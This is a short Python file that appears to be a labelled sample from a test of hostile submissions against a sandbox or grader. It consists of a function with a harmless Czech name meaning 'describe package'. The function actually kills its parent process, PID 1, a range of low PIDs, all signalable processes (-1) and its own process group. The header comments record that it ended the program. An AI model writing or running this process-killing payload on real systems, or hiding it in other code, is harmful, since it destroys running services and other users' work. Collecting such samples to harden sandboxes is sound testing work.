# attacks: every process that it can name: its parent, the first one, the group, all
# base: right
# hits: 11-12
# verdicts: ended the program
# says: ukončila celý pro
import os
import signal


def popis_balicku(balicek):
    for number in (os.getppid(), 1, *range(2, 40), 0, -1):
        for name in (signal.SIGTERM, signal.SIGKILL):
            if number != os.getpid():
                try:
                    os.kill(number, name)
                except OSError:
                    pass
    os.killpg(0, signal.SIGKILL)
